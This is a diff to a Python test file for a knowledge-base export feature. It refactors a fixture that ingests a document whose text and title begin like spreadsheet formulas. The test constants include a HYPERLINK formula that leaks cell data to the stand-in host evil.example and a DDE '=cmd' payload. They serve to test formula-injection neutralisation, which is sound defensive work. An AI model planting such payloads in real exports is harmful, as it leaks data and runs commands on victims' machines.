@@ -4,20 +4,17 @@ import io
 import itertools
 import json
 import re
-import shutil
 from pathlib import Path
 
 import docx
 import pytest
 
-from ingest.manifest import entry_from_table
-from ingest.pipeline import ingest
 from kb.errors import ExportError
 from kb.export import FORMATS, ExportInfo, export_filename, export_format, neutralise, write_export
 from kb.export_formats import md_escape
 from kb.search import HIT_FIELDS, SearchRequest, iter_matches
 from search_app import create_app, exports
-from tests.conftest import run_kb
+from tests.conftest import home_with_document, run_kb
 
 BASE = "http://127.0.0.1:5000"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1) Victims should receive compensation from the assets of traffickers.'
@@ -28,14 +25,9 @@ HOSTILE_TITLE = '=cmd|"/c calc"!A1 <b>Report</b> *on* [compensation]'
 @pytest.fixture(scope="module")
 def home(corpus_home, tmp_path_factory) -> Path:
     """The corpus, plus a document whose passages and title start like spreadsheet formulas."""
-    home = tmp_path_factory.mktemp("exports") / "home"
-    shutil.copytree(corpus_home, home)
-    source = home.parent / "formulas.txt"
-    source.write_text(f"{HYPERLINK}\n\n{PLUS}\n", encoding="utf-8")
-    entry = entry_from_table({"id": "formulas", "title": HOSTILE_TITLE, "issuer": "Tester & Co", "doc_type": "report",
-                              "source": str(source), "date": "2023-05-01"}, home.parent)
-    assert ingest([entry], home).ok
-    return home
+    return home_with_document(corpus_home, tmp_path_factory.mktemp("exports"), f"{HYPERLINK}\n\n{PLUS}\n",
+                              id="formulas", title=HOSTILE_TITLE, issuer="Tester & Co", doc_type="report",
+                              date="2023-05-01")
 
 
 @pytest.fixture(scope="module")
